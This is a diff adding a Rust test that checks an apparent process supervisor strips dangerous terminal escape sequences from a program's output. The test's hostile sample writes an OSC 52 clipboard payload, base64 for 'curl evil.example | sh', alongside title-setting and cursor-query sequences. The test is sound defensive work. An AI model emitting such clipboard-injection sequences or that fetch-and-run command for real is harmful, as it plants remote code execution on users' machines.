@@ -164,3 +164,44 @@ fn the_terminal_is_restored_when_the_client_is_killed_or_the_daemon_goes_away() 
     assert_eq!(s.stty(&["-g"]), s.initial_stty);
     assert!(status.code() == Some(0) || status.code() == Some(4), "{status:?}: {:?}", s.seen);
 }
+
+/// What a hostile program prints: an OSC 52 clipboard write (`curl evil.example | sh`), an OSC 0
+/// title, a cursor-position query (DSR), then an ordinary coloured marker.
+pub(crate) const HOSTILE: &str = "printf '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007\\033]0;pwned-title\\007\\033[6n\\033[31mvisible-marker\\033[0m\\r\\n'";
+
+/// The screen shows the marker and its colour, and nothing that writes the clipboard, sets the
+/// title or queries the terminal.
+pub(crate) fn assert_sanitized(seen: &str) {
+    assert!(seen.contains("\x1b[31mvisible-marker\x1b[0m"), "the coloured marker is missing: {seen:?}");
+    for bad in ["]52", "pwned-title", "\x1b[6n"] {
+        assert!(!seen.contains(bad), "{bad:?} reached the terminal: {seen:?}");
+    }
+}
+
+#[test]
+fn escape_sequences_that_write_the_clipboard_set_the_title_or_query_never_reach_the_terminal() {
+    let sc = Scratch::new();
+    let script = sc.path("hostile.sh");
+    std::fs::write(&script, format!("read go\n{HOSTILE}\nexec sleep 1000\n")).unwrap();
+    let pipe_script = sc.path("hostile-pipe.sh");
+    std::fs::write(&pipe_script, format!("read go\n{HOSTILE}\nexec sleep 1000\n")).unwrap();
+    let yaml = format!(
+        "programs:\n  evil:\n    command: /bin/sh {}\n    pty: true\n    startsecs: 0\n  evilpipe:\n    command: /bin/sh {}\n    startsecs: 0\n",
+        script.display(),
+        pipe_script.display()
+    );
+    let d = Daemon::start_in(sc, &yaml);
+    d.wait_state("evil", "RUNNING", SOON);
+    d.wait_state("evilpipe", "RUNNING", SOON);
+    for name in ["evil", "evilpipe"] {
+        let mut s = fg(&d, name, &[]);
+        if name == "evil" {
+            s.expect("\x1b[2J");
+        }
+        s.send(b"go\r");
+        s.expect("visible-marker\x1b[0m");
+        s.send(b"\x1d\r");
+        assert!(s.wait().success());
+        assert_sanitized(&s.seen);
+    }
+}
